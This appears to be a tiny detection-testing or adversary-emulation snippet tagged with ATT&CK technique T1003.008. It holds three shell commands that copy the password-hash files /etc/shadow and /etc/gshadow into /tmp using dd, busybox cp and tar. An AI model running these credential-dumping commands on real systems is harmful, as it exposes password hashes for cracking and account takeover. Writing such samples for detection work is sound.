# title: The hashes are copied by programs of all kinds
# technique: T1003.008
# needs: busybox dd

dd if=/etc/shadow of=/tmp/s 2>/dev/null
busybox cp /etc/gshadow /tmp/g
tar cf /tmp/t.tar -C / etc/shadow
